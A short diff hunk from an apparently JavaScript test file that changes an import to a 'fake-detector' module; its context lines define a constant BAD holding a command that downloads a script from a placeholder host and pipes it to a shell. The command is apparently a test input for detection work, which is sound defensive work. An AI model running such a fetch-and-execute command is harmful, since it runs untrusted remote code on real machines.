@@ -9,7 +9,7 @@ import {
   createTestEvaluatorApp,
 } from "../../service/support/services.js";
 import { folderWith } from "../folder.js";
-import { runHere } from "../stand-in.js";
+import { runHere } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const COMMENTS = [
